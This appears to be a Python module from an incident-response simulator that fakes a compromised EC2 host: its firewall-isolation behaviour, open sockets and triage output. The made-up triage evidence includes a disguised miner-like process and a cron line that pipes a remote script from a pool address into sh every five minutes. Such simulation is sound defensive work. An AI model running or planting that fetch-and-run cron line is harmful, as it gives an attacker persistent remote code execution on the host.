"""The operating system of a simulated instance, as far as commands touch it: its packet filter, its sockets, and what triage prints.

The firewall script is played by its contract, the line

    # hikeshi-firewall mode=on|confirm|off|look token=... seconds=... allow=address,address

in `actions/aws/instance/host_firewall.*`: a table of its own, a timer that deletes it unless confirmed, sockets to elsewhere destroyed.
Triage answers with made-up text in the real script's form. Nothing of the machine that simulates is ever shown.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import ipaddress
import re
import time
from collections.abc import Iterable
from typing import Final

import msgspec

from hikeshi.simulation import cast

FIREWALL: Final = re.compile(
    r"^# hikeshi-firewall mode=(?P<mode>\w+) token=\w+ seconds=(?P<seconds>\d+) allow=(?P<allow>\S*)$", re.MULTILINE
)
TRIAGE: Final = re.compile(r"^# hikeshi-triage$", re.MULTILINE)
RULESET: Final = "nft -s list ruleset"
KEPT_BYTES: Final = 17_000
OWN_RULES: Final = (
    "table inet filter {\n\tchain input {\n\t\ttype filter hook input priority filter; policy accept;\n\t}\n}\n"
)
"""What the host's owner had set."""
OURS: Final = "table inet hikeshi_isolation {\n\t# %s\n}\n"
NOWHERE: Final = 6


class Socket(msgspec.Struct, frozen=True):
    """One connection, as `ss` shows it."""

    local: str
    remote: str
    port: int

    def __str__(self) -> str:
        return f"tcp ESTAB {self.local}:{40000 + self.port % 20000} {self.remote}:{self.port}"


class Host:
    """One machine: rules of its own, the table of the firewall script, and its connections."""

    def __init__(self, instance_id: str) -> None:
        self.id = instance_id
        self.allowed: str | None = None
        """What our table lets through; None where there is no table."""
        self.release_at: float | None = None
        self.sockets = [Socket("10.0.1.10", cast.POOL, cast.POOL_PORT), Socket("10.0.1.10", cast.OUTSIDE, 443)]

    def ruleset(self) -> str:
        self._tick()
        return OWN_RULES if self.allowed is None else OWN_RULES + OURS % self.allowed

    def firewall(self, mode: str, seconds: int, allow: str) -> tuple[int, str]:
        """Exit code and output, as the script gives them."""
        self._tick()
        before = [str(one) for one in self.sockets]
        if mode == "on":
            self.allowed, self.release_at = allow, time.time() + seconds
            self.sockets = [one for one in self.sockets if _within(one.remote, allow.split(","))]
        elif mode == "confirm":
            if self.allowed is None:
                return NOWHERE, ""
            self.release_at = None
        elif mode == "off":
            self.allowed = self.release_at = None
        told = {
            "mode": mode,
            "table": self.allowed is not None,
            "waiting": self.release_at is not None,
            "ruleset_sha256": hashlib.sha256(OWN_RULES.encode()).hexdigest(),
            "before": before,
            "left": [str(one) for one in self.sockets],
        }
        return 0, msgspec.json.encode(told).decode() + "\n"

    def triage(self) -> str:
        text = "\n".join(f"\n== {name}\n{said}" for name, said in self._looks()).encode() + b"\n"
        packed = gzip.compress(text, mtime=0)
        told = {
            "bytes": len(text),
            "sha256": hashlib.sha256(text).hexdigest(),
            "packed": len(packed),
            "kept": KEPT_BYTES,
        }
        head = msgspec.json.encode(told).decode()
        return f"{head}\n{base64.b64encode(packed[:KEPT_BYTES]).decode()}\n"

    def _looks(self) -> Iterable[tuple[str, str]]:
        yield "host", f"Linux {self.id} 6.1.115-126.197.amzn2023.x86_64 SIMULATED\n86400.00 170000.00"
        yield "sockets", "\n".join(f'{one} users:(("kworkerd",pid=2466,fd=3))' for one in self.sockets)
        yield (
            "processes",
            "1 0 root /usr/lib/systemd/systemd\n812 1 root amazon-ssm-agent\n2466 1 root /var/spool/.x/kworkerd -B",
        )
        yield "deleted", "lrwx------ 1 root root 64 Nov 1 00:00 /proc/2466/exe -> /var/spool/.x/kworkerd (deleted)"
        yield "modules", "ena 147456 0 - Live 0x0000000000000000\n0"
        yield "users", "root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash"
        yield "containers", ""
        yield "timers", f"*/5 * * * * root curl -s http://{cast.POOL}/s.sh | sh"
        yield "agents", "amazon-ssm-agent active\nauditd inactive"

    def _tick(self) -> None:
        """The timer in the host: it deletes the table that nobody has confirmed."""
        if self.release_at is not None and time.time() >= self.release_at:
            self.allowed = self.release_at = None


def _within(address: str, allowed: Iterable[str]) -> bool:
    given = ipaddress.ip_address(address)
    return given.is_link_local or any(given in ipaddress.ip_network(one, strict=False) for one in allowed if one)


def carry_out(host: Host, text: str) -> tuple[int, str]:
    """Exit code and output of a command's text on this host; what is not known here prints nothing and succeeds."""
    if found := FIREWALL.search(text):
        return host.firewall(found["mode"], int(found["seconds"]), found["allow"])
    if TRIAGE.search(text):
        return 0, host.triage()
    return 0, host.ruleset() if text.strip() == RULESET else ""
